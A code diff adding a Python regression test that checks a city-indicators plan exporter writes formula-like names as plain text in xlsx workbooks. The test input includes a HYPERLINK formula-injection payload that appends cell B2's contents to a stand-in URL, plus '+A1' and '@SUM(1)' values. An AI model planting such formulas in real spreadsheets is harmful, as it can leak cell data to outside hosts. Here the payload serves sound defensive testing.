@@ -464,3 +464,25 @@ def test_a_dependency_ratio_target_per_100_or_in_percent_is_the_same_number(tmp_
     assert plan.criteria[0].unit == "per 100 aged 15-64"
     msg = errors_of(tmp_path, demo_dir, text.replace(f"unit: {unit}", "unit: ‰"))
     assert "criteria[1].unit" in msg and "'per 100 aged 15-64'" in msg
+
+
+def test_a_formula_like_name_stays_text_in_a_plan_workbook(tmp_path):
+    # "=HYPERLINK(...)" typed as a plan's name became a live formula in the converted workbook
+    import openpyxl
+
+    from cityindicators.plans.files import plan_workbook_bytes, read_plan_file
+    from cityindicators.plans.plan import CRITERION_KEYS, PLAN_KEYS
+
+    link = '=HYPERLINK("http://example.invalid/?"&B2,"open")'
+    yaml_plan = tmp_path / "p.yaml"
+    yaml_plan.write_text(f"name_lt: '{link}'\nterritory: Eglyno sav.\ncriteria:\n  - id: '+A1'\n    name_en: '@SUM(1)'\n",
+                         encoding="utf-8")
+    xlsx = tmp_path / "p.xlsx"
+    xlsx.write_bytes(plan_workbook_bytes(PLAN_KEYS, CRITERION_KEYS, read_plan_file(yaml_plan)))
+    wb = openpyxl.load_workbook(xlsx)
+    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert {c.value for c in cells if c.quotePrefix} == {link, "+A1", "@SUM(1)"}
+    back = read_plan_file(xlsx)
+    assert back.values["name_lt"] == link
+    assert (back.criteria[0]["id"], back.criteria[0]["name_en"]) == ("+A1", "@SUM(1)")
